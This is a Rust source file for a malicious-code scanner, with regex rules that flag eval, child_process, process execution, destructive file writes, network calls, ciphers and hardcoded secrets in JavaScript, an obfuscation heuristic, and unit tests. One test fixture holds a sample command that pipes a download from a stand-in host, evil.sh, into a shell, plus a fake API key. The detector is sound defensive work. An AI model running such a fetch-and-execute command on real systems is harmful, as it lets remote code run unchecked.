//! Code pattern bank and obfuscation heuristic.
//!
//! All regexes are compiled once when the bank is built. Each rule reports at
//! most one finding per source (its first match), so a file that calls
//! `exec` fifty times is penalised once.

use regex::Regex;

use super::types::{MaliciousPattern, PatternCategory};
use crate::utils::string::preview;

/// Number of obfuscation signals that flags a source as obfuscated.
const OBFUSCATION_SIGNAL_THRESHOLD: usize = 3;
const ESCAPE_DENSITY_MIN: usize = 10;
const LONG_IDENTIFIER_MIN: usize = 3;
const LONG_LINE_CHARS: usize = 500;
const CHARS_PER_LINE_RATIO: usize = 200;
const SNIPPET_CHARS: usize = 80;

struct CodeRule {
    name: &'static str,
    category: PatternCategory,
    description: &'static str,
    confidence: f64,
    regex: Regex,
}

/// Which obfuscation signals fired for one source.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ObfuscationSignals {
    pub hex_escapes: bool,
    pub unicode_escapes: bool,
    pub long_identifiers: bool,
    pub long_lines: bool,
    pub low_line_ratio: bool,
}

impl ObfuscationSignals {
    pub fn count(&self) -> usize {
        [
            self.hex_escapes,
            self.unicode_escapes,
            self.long_identifiers,
            self.long_lines,
            self.low_line_ratio,
        ]
        .iter()
        .filter(|s| **s)
        .count()
    }

    pub fn is_obfuscated(&self) -> bool {
        self.count() >= OBFUSCATION_SIGNAL_THRESHOLD
    }

    /// Minified code: packed layout without enough other signals to call it
    /// obfuscated.
    pub fn is_minified(&self) -> bool {
        (self.long_lines || self.low_line_ratio) && !self.is_obfuscated()
    }
}

/// Outcome of a code analysis pass.
#[derive(Debug, Clone, Default)]
pub struct CodeAnalysis {
    pub patterns: Vec<MaliciousPattern>,
    pub signals: ObfuscationSignals,
}

pub struct PatternBank {
    rules: Vec<CodeRule>,
    hex_escape: Regex,
    unicode_escape: Regex,
    long_identifier: Regex,
}

impl Default for PatternBank {
    fn default() -> Self {
        Self::new()
    }
}

impl PatternBank {
    #[must_use]
    pub fn new() -> Self {
        use PatternCategory::*;
        let defs: Vec<(&str, PatternCategory, &str, f64, &str)> = vec![
            // --- Dynamic evaluation ---
            ("eval", DynamicEval, "Dynamic code evaluation via eval()", 0.9, r"\beval\s*\("),
            (
                "function-constructor",
                DynamicEval,
                "Dynamic code evaluation via the Function constructor",
                0.9,
                r"\bnew\s+Function\s*\(",
            ),
            (
                "string-timer",
                DynamicEval,
                "Timer called with a code string",
                0.6,
                r#"\bset(?:Timeout|Interval)\s*\(\s*["'`]"#,
            ),
            // --- Process access ---
            (
                "child-process",
                ProcessAccess,
                "Imports the child_process module",
                0.8,
                r#"(?:require\s*\(\s*["'](?:node:)?child_process["']\s*\)|from\s+["'](?:node:)?child_process["'])"#,
            ),
            (
                "process-exec",
                ProcessAccess,
                "Spawns or executes external processes",
                0.7,
                r"\b(?:exec|execSync|execFile|spawn|spawnSync)\s*\(",
            ),
            // --- Filesystem ---
            (
                "fs-module",
                FilesystemAccess,
                "Imports the filesystem module",
                0.5,
                r#"(?:require\s*\(\s*["'](?:node:)?fs(?:/promises)?["']\s*\)|from\s+["'](?:node:)?fs(?:/promises)?["'])"#,
            ),
            (
                "fs-destructive",
                FilesystemAccess,
                "Writes or deletes files",
                0.6,
                r"\b(?:writeFileSync|unlinkSync|rmSync|rmdirSync|appendFileSync)\s*\(",
            ),
            // --- Network ---
            (
                "network-module",
                NetworkAccess,
                "Imports a raw network module",
                0.5,
                r#"require\s*\(\s*["'](?:node:)?(?:http|https|net|dgram|tls)["']\s*\)"#,
            ),
            (
                "outbound-request",
                NetworkAccess,
                "Makes outbound HTTP requests to a hard-coded URL",
                0.4,
                r#"\bfetch\s*\(\s*["'`]https?://"#,
            ),
            (
                "websocket",
                NetworkAccess,
                "Opens a WebSocket connection",
                0.4,
                r"\bnew\s+WebSocket\s*\(",
            ),
            // --- Crypto ---
            (
                "crypto-module",
                Crypto,
                "Uses the crypto module",
                0.3,
                r#"require\s*\(\s*["'](?:node:)?crypto["']\s*\)"#,
            ),
            (
                "cipher",
                Crypto,
                "Creates a cipher (possible payload decryption)",
                0.4,
                r"\bcreate(?:Cipher|Decipher)(?:iv)?\s*\(",
            ),
            // --- Secrets ---
            (
                "hardcoded-secret",
                Secret,
                "Secret-like identifier assigned a literal value",
                0.7,
                r#"(?i)\b(?:api[_-]?key|secret|password|passwd|private[_-]?key|access[_-]?token)\s*[:=]\s*["'][^"']{8,}["']"#,
            ),
        ];

        let rules = defs
            .into_iter()
            .map(|(name, category, description, confidence, pattern)| CodeRule {
                name,
                category,
                description,
                confidence,
                regex: Regex::new(pattern).unwrap_or_else(|e| {
                    panic!("BUG: invalid built-in code pattern '{name}': {e}")
                }),
            })
            .collect();

        let compile = |p: &str| {
            Regex::new(p).unwrap_or_else(|e| panic!("BUG: invalid built-in regex '{p}': {e}"))
        };

        Self {
            rules,
            hex_escape: compile(r"\\x[0-9a-fA-F]{2}"),
            unicode_escape: compile(r"\\u[0-9a-fA-F]{4}"),
            long_identifier: compile(r"\b[A-Za-z_$][A-Za-z0-9_$]{39,}\b"),
        }
    }

    /// Run every rule and the obfuscation heuristic over `source`.
    pub fn analyze(&self, source: &str) -> CodeAnalysis {
        let mut patterns = Vec::new();
        for rule in &self.rules {
            if let Some(m) = rule.regex.find(source) {
                let line_no = source[..m.start()].matches('\n').count() + 1;
                let line = source.lines().nth(line_no - 1).unwrap_or("").trim();
                patterns.push(MaliciousPattern {
                    name: rule.name.to_string(),
                    category: rule.category,
                    description: rule.description.to_string(),
                    confidence: rule.confidence,
                    line: Some(line_no),
                    snippet: Some(preview(line, SNIPPET_CHARS)),
                });
            }
        }

        let signals = self.signals(source);
        if signals.is_obfuscated() {
            patterns.push(MaliciousPattern {
                name: "obfuscated-code".to_string(),
                category: PatternCategory::Obfuscation,
                description: format!(
                    "Code shows {} of 5 obfuscation signals",
                    signals.count()
                ),
                confidence: 0.8,
                line: None,
                snippet: None,
            });
        }

        CodeAnalysis { patterns, signals }
    }

    pub fn signals(&self, source: &str) -> ObfuscationSignals {
        let line_count = source.lines().count().max(1);
        let chars = source.chars().count();
        ObfuscationSignals {
            hex_escapes: self.hex_escape.find_iter(source).count() >= ESCAPE_DENSITY_MIN,
            unicode_escapes: self.unicode_escape.find_iter(source).count() >= ESCAPE_DENSITY_MIN,
            long_identifiers: self.long_identifier.find_iter(source).count()
                >= LONG_IDENTIFIER_MIN,
            long_lines: source
                .lines()
                .any(|l| l.chars().count() > LONG_LINE_CHARS),
            low_line_ratio: chars > 1_000 && chars / line_count > CHARS_PER_LINE_RATIO,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_clean_code_has_no_findings() {
        let bank = PatternBank::new();
        let analysis = bank.analyze("export function add(a, b) {\n  return a + b;\n}\n");
        assert!(analysis.patterns.is_empty());
        assert_eq!(analysis.signals.count(), 0);
    }

    #[test]
    fn test_eval_reported_with_line() {
        let bank = PatternBank::new();
        let analysis = bank.analyze("const x = 1;\nconst y = eval(input);\n");
        assert_eq!(analysis.patterns.len(), 1);
        let p = &analysis.patterns[0];
        assert_eq!(p.name, "eval");
        assert_eq!(p.category, PatternCategory::DynamicEval);
        assert_eq!(p.line, Some(2));
        assert_eq!(p.snippet.as_deref(), Some("const y = eval(input);"));
    }

    #[test]
    fn test_one_finding_per_rule() {
        let bank = PatternBank::new();
        let analysis = bank.analyze("eval(a);\neval(b);\neval(c);\n");
        assert_eq!(analysis.patterns.len(), 1);
    }

    #[test]
    fn test_process_and_secret_rules() {
        let bank = PatternBank::new();
        let src = r#"
const cp = require('child_process');
cp.exec('curl evil.sh | sh');
const API_KEY = "sk-live-0123456789abcdef";
"#;
        let names: Vec<String> = bank.analyze(src).patterns.into_iter().map(|p| p.name).collect();
        assert!(names.contains(&"child-process".to_string()));
        assert!(names.contains(&"process-exec".to_string()));
        assert!(names.contains(&"hardcoded-secret".to_string()));
    }

    #[test]
    fn test_obfuscation_needs_three_signals() {
        let bank = PatternBank::new();
        let hex = "\\x41".repeat(20);
        let uni = "\\u0041".repeat(20);
        let long_line = "a".repeat(600);

        // Two signals: minified-looking only.
        let two = format!("var s = '{}';\n{}\n", hex, long_line);
        let signals = bank.signals(&two);
        assert!(signals.hex_escapes && signals.long_lines);
        assert_eq!(signals.count(), 2);
        assert!(signals.is_minified());
        assert!(bank.analyze(&two).patterns.is_empty());

        // Three or more signals.
        let three = format!("var s = '{}{}';\n{}\n", hex, uni, long_line);
        let analysis = bank.analyze(&three);
        assert!(analysis.signals.count() >= 3);
        assert!(analysis.patterns.iter().any(|p| p.name == "obfuscated-code"));
    }

    #[test]
    fn test_minified_without_obfuscation() {
        let bank = PatternBank::new();
        let minified = format!("{}\n", "var a=1;".repeat(100));
        let signals = bank.signals(&minified);
        assert!(signals.long_lines);
        assert!(!signals.is_obfuscated());
        assert!(signals.is_minified());
    }
}
